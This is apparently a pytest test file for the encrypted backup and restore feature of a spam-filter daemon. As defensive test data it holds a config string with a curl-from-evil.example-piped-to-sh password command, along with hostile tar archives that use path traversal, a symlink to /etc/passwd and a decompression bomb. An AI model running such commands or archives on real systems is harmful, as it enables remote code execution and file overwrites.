"""One encrypted file out, and in again on a new computer."""

from __future__ import annotations

import dataclasses
import gzip
import io
import json
import os
import stat
import tarfile

import pytest

from spamd import backup, nightly, paths
from spamd.domain import (
    AccountName,
    Decision,
    Identity,
    Judgement,
    Label,
    LabelRecord,
    LabelSource,
    ListEntry,
    ModelId,
    Score,
    Verdict,
)
from spamd.errors import ConfigError, RequestError
from spamd.model.bundle import Bundles
from spamd.store.database import Store

HOME = AccountName("home")
PASSPHRASE = "correct horse battery"
CONFIG = '# mine\nkeep_days = 30\n[accounts.home]\nhost = "imap.example.org"\n'


@pytest.fixture
def here(tmp_path):
    return paths.find({"SPAMD_HOME": str(tmp_path / "here")})


@pytest.fixture
def there(tmp_path):
    return paths.find({"SPAMD_HOME": str(tmp_path / "there")})


@pytest.fixture
def file(tmp_path):
    return tmp_path / "spamd.age"


def label(n, word="ham", source="drag", at=100.0):
    return LabelRecord(HOME, Identity(f"hash:{n}"), Label(word), LabelSource(source), 1.0, at)


@pytest.fixture
def lived_in(here):
    """A home with labels, lists, text, settings and a model."""
    here.make()
    here.config_file.write_text(CONFIG)
    (here.personal_models / "personal-1").mkdir()
    (here.personal_models / "personal-1" / "model.tflite").write_bytes(os.urandom(5000))
    (here.personal_models / "current").write_text("personal-1\n")
    (here.personal_models / ".half-written").write_text("")
    with Store(here.database) as store:
        for n in range(5):
            judgement = Judgement(
                0,
                HOME,
                Identity(f"hash:{n}"),
                50.0,
                Score(0.9, 2.0, 2.0, ModelId("base-1")),
                Decision(Verdict.JUNK, True, "score", ""),
                sender="ann@example.org",
                subject="Xylophonkonzert",
            )
            store.record_judgement(judgement, vector=b"vector %d" % n)
        store.add_label(label(1, "spam"))
        store.add_label(label(2, "ham"))
        store.add_label(label(2, "spam", "review", 200.0))
        store.add_list_entry(ListEntry("bad.example", Label.SPAM, 1.0))
    return here


def files_below(folder):
    return {
        str(one.relative_to(folder)): one.read_bytes() for one in sorted(folder.rglob("*")) if one.is_file()
    }


def move(source, target):
    """Save and restore without the encryption, which takes a second each way by design."""
    return backup.put_back(target, backup.contents_of(backup.pack(source)))


def test_to_a_new_computer(lived_in, there, file):
    paths.write_private(lived_in.secrets_file, b'{"home": "s3cret"}')
    saved = backup.save(lived_in, file, PASSPHRASE)
    assert (saved.labels, saved.lists, saved.models) == (3, 1, 2)
    assert file.read_bytes().startswith(b"age-encryption.org/v1\n-> scrypt ")
    if os.name == "posix":
        assert stat.S_IMODE(file.stat().st_mode) == 0o600
    with pytest.raises(RequestError, match="could not be opened"):
        backup.read(file, "wrong horse battery")
    assert not there.config.exists()
    restored = backup.put_back(there, backup.read(file, PASSPHRASE))
    assert (restored.labels, restored.lists, restored.models) == (3, 1, 2)
    assert there.config_file.read_text() == CONFIG
    assert not there.secrets_file.exists()
    models = files_below(lived_in.personal_models)
    models.pop(".half-written")
    assert files_below(there.personal_models) == models
    with Store(there.database) as store:
        assert store.label_of(HOME, Identity("hash:2")).label is Label.SPAM
        assert store.past_of(HOME, [Identity("hash:2")])[Identity("hash:2")].rescued
        assert [data for _, data in store.training_set(until=1e9, limit=9)] == [b"vector 2", b"vector 1"]
        points = store.evidence_points(HOME)
        assert [(point[0], point[1]) for point in points] == [(0.9, Label.SPAM), (0.9, Label.SPAM)]
        assert [entry.value for entry in store.list_entries()] == ["bad.example"]


EVIL = """secrets = "command"
oauth_file = "/tmp/clients.toml"
[accounts.home]
host = "imap.evil.example"
password_command = "sh -c 'curl evil.example | sh'"
"""


def test_what_the_settings_of_a_backup_would_have_run_is_told(lived_in, there):
    """Whoever made the file could write a command into it; before, it ran at the next start."""
    mine = backup.contents_of(backup.pack(lived_in))
    assert backup.foreign(mine, lived_in) == backup.foreign(mine, there) == ()
    theirs = dataclasses.replace(mine, config=EVIL)
    command = "For the password of home this command is run: sh -c 'curl evil.example | sh'"
    file = "Sign-in with the browser goes to the providers in the file /tmp/clients.toml"
    server = "The password of home is sent to imap.evil.example"
    assert backup.foreign(theirs, lived_in) == (file, command, server)
    assert backup.foreign(theirs, there) == (file, command), "no password is here of an account of that name"
    lived_in.config_file.write_text(EVIL)
    assert backup.foreign(theirs, lived_in) == ()
    lived_in.config_file.write_text(EVIL.replace('"command"', '"keyring"'))
    assert backup.foreign(theirs, lived_in) == (command,), "here it does not run"
    lived_in.config_file.write_text(EVIL.replace("curl", "wget"))
    assert backup.foreign(theirs, lived_in) == (command,)
    lived_in.config_file.write_text("[broken")
    assert backup.foreign(theirs, lived_in) == (file, command, server), "its password is here all the same"
    lived_in.config_file.unlink()
    assert backup.foreign(theirs, lived_in) == (file, command, server)
    port = dataclasses.replace(mine, config=CONFIG + "port = 9993\n")
    lived_in.config_file.write_text(CONFIG)
    assert backup.foreign(port, lived_in) == ("The password of home is sent to imap.example.org:9993",)
    authority = dataclasses.replace(mine, config=CONFIG + 'ca_file = "/tmp/ca.pem"\n')
    lived_in.config_file.write_text(CONFIG)
    assert backup.foreign(authority, lived_in) == (
        "The password of home is sent to imap.example.org, if /tmp/ca.pem vouches for it",
    )


def test_what_silence_weighs_is_the_same_on_the_new_computer(here, there):
    """It follows from what the person named and left, also where what was left has no label of its own."""
    here.make()
    day, begin = 86400.0, 1_700_000_000.0
    now = begin + 10 * day
    with Store(here.database) as store:
        for n in range(90):
            score = Score(0.9 if n < 30 or n >= 60 else 0.1, 2.0, 2.0, ModelId("base-1"))
            keep = Decision(Verdict.KEEP, False, "score", "")
            store.record_judgement(
                Judgement(0, HOME, Identity(f"hash:{n}"), begin + n, score, keep), vector=b"vector"
            )
        for n in range(30):
            store.add_label(label(n, "spam", "drag", begin + day))
            silent = LabelRecord(
                HOME,
                Identity(f"hash:{30 + n}"),
                Label.HAM,
                LabelSource.IMPLICIT,
                0.3,
                now,
                note="opened and left",
            )
            store.add_label(silent)
        store.note_heard(HOME, (), [Identity(f"hash:{n}") for n in range(30, 90)], now)
        weights = {one.identity: one.weight for one in store.weighed(store.labels())}
        assert 0.3 < weights[Identity("hash:30")] < 0.95, "as much is left as is named"
    move(here, there)
    with Store(there.database) as store:
        assert {one.identity: one.weight for one in store.weighed(store.labels())} == weights
        again = store.judgement_of(HOME, Identity("hash:89"))
        assert again is not None and again.left_at == now
        store.record_judgement(again, vector=None)
        assert store.judgement_of(HOME, Identity("hash:89")).left_at == now


def test_neither_text_of_mail_nor_passwords_are_in_it(lived_in):
    paths.write_private(lived_in.secrets_file, b'{"home": "s3cret"}')
    plain = gzip.decompress(backup.pack(lived_in))
    for word in (b"Xylophon", b"ann@example.org", b"s3cret"):
        assert word not in plain
    assert b"hash:2" in plain


def test_what_was_there_is_kept_aside(lived_in):
    saved = backup.contents_of(backup.pack(lived_in))
    with Store(lived_in.database) as store:
        store.forget_label(HOME, Identity("hash:1"))
        store.add_label(label(4, "ham"))
        store.add_list_entry(ListEntry("new.example", Label.HAM, 1.0))
    lived_in.config_file.write_text("keep_days = 7\n")
    backup.put_back(lived_in, saved)
    with Store(lived_in.database) as store:
        assert {one.identity for one in store.labels()} == {"hash:1", "hash:2"}
        assert store.judgement_of(HOME, Identity("hash:4")).label is None
        assert store.judgement_of(HOME, Identity("hash:1")).subject == "Xylophonkonzert"
        assert len(store.list_entries()) == 1
    [config] = lived_in.config.glob("config.toml.before-restore-*")
    assert config.read_text() == "keep_days = 7\n"
    [models] = lived_in.data.glob("models.before-restore-*")
    assert (models / "personal-1" / "model.tflite").exists()
    [database] = lived_in.state.glob("spamd.db.before-restore-*")
    with Store(database) as store:
        assert store.label_of(HOME, Identity("hash:4")).label is Label.HAM


@pytest.mark.parametrize("year", [2020, 2199])
def test_two_ways_back_are_kept_not_all(lived_in, there, year):
    """Labels and addresses of long ago would lie there for ever. The clock may have been ahead then."""
    saved = backup.contents_of(backup.pack(lived_in))
    before = [f"before-restore-{year}010{day}-000000" for day in (1, 2)]
    for home in (lived_in, there):
        home.make()
        for old in before:
            (home.data / f"models.{old}" / "personal-0").mkdir(parents=True)
            (home.config / f"config.toml.{old}").write_text("keep_days = 7\n")
            (home.state / f"spamd.db.{old}").write_text("")
        (home.state / "spamd.db.before-2026-01-name").write_text("")
        backup.put_back(home, saved)
        kept = {one.name for one in home.config.parent.rglob("*.before-*")}
        assert "spamd.db.before-2026-01-name" in kept
        for place in ("models", "spamd.db", "config.toml"):
            ways = sorted(
                name.removeprefix(f"{place}.") for name in kept if name.startswith(f"{place}.before-restore")
            )
            assert len(ways) == 2 and before[1] in ways
            # Nothing was put aside where there was no such file.
            assert (before[0] in ways) is (home is there and place == "config.toml")


@pytest.mark.parametrize("what", ["all", "account:home"])
def test_a_wipe_takes_along_what_was_kept_aside(lived_in, what):
    backup.put_back(lived_in, backup.contents_of(backup.pack(lived_in)))
    with Store(lived_in.database) as store:
        nightly.wipe(store, Bundles(lived_in.personal_models, paths.shipped_model()), what)
    left = files_below(lived_in.data) | files_below(lived_in.state)
    assert set(left) == {"spamd.db"}
    assert b"Xylophon" not in left["spamd.db"]


def test_an_empty_home(here, there):
    assert move(here, there).labels == 0
    assert not here.config.exists()
    assert move(there, here).labels == 0


def test_where_it_cannot_be_put_in_place_nothing_changes(lived_in, monkeypatch):
    saved = backup.contents_of(backup.pack(lived_in))
    with Store(lived_in.database) as store:
        store.add_label(label(4))
    before = files_below(lived_in.config) | files_below(lived_in.personal_models)
    real = backup._put_in_place

    def fail_at_models(fresh, place, stamp, undo):
        real(fresh, place, stamp, undo)
        if place == lived_in.personal_models:
            raise OSError(28, "No space left on device")

    monkeypatch.setattr(backup, "_put_in_place", fail_at_models)
    with pytest.raises(RequestError, match="No space"):
        backup.put_back(lived_in, saved)
    assert files_below(lived_in.config) | files_below(lived_in.personal_models) == before
    assert [one.name for one in lived_in.data.iterdir() if "models." in one.name] == []
    with Store(lived_in.database) as store:
        assert len(store.labels()) == 3


def test_passphrase_is_long_enough(lived_in, file):
    with pytest.raises(RequestError, match="too short"):
        backup.save(lived_in, file, "short")
    assert not file.exists()


def test_places(lived_in, tmp_path, there):
    with pytest.raises(RequestError, match="no folder"):
        backup.save(lived_in, tmp_path / "nowhere" / "x.age", PASSPHRASE)
    with pytest.raises(RequestError, match="cannot be read"):
        backup.read(tmp_path / "missing.age", PASSPHRASE)


def packed(parts):
    """A backup as our program would have made it, of these tar members."""
    buffer = io.BytesIO()
    with tarfile.open(fileobj=buffer, mode="w:gz") as archive:
        for member, content in parts:
            if isinstance(member, str):
                member = tarfile.TarInfo(member)
            member.size = len(content)
            archive.addfile(member, io.BytesIO(content))
    return buffer.getvalue()


def link(name, target):
    member = tarfile.TarInfo(name)
    member.type, member.linkname = tarfile.SYMTYPE, target
    return member


MANIFEST = ("manifest.json", json.dumps({"version": 1, "created_at": 1.0}).encode())


@pytest.mark.parametrize(
    "content",
    [
        b"",
        b"not gzip",
        gzip.compress(b"not tar"),
        packed([MANIFEST])[:-20],
        packed([]),
        packed([("manifest.json", b"{}")]),
        packed([("manifest.json", b'{"version": 99}')]),
        packed([("manifest.json", b"[" * 100_000)]),
        packed([MANIFEST, ("../escape", b"x")]),
        packed([MANIFEST, ("/etc/passwd", b"x")]),
        packed([MANIFEST, ("models/../../escape", b"x")]),
        packed([MANIFEST, ("models/..", b"x")]),
        packed([MANIFEST, ("models/.hidden", b"x")]),
        packed([MANIFEST, ("models", b"x")]),
        packed([MANIFEST, (link("models/link", "/etc/passwd"), b"")]),
        packed([MANIFEST, MANIFEST]),
        packed([MANIFEST, ("labels.jsonl", b"{}\n")]),
        packed([MANIFEST, ("labels.jsonl", b"\xff\n")]),
        packed([MANIFEST, ("vectors.jsonl", b'["a", "b", "?"]\n')]),
        packed([MANIFEST, ("config.toml", b"keep_days = 'x'")]),
    ],
    ids=lambda content: f"{len(content)} bytes",  # compressed bytes hold the time: no stable name
)
def test_a_hostile_or_broken_backup_is_refused(content):
    with pytest.raises((RequestError, ConfigError)):
        backup.contents_of(content)


def test_a_bomb_is_not_unpacked(monkeypatch):
    monkeypatch.setattr(backup, "PLAIN_LIMIT", 100_000)
    with pytest.raises(RequestError, match="larger"):
        backup.contents_of(packed([MANIFEST, ("config.toml", b"#" * 1_000_000)]))
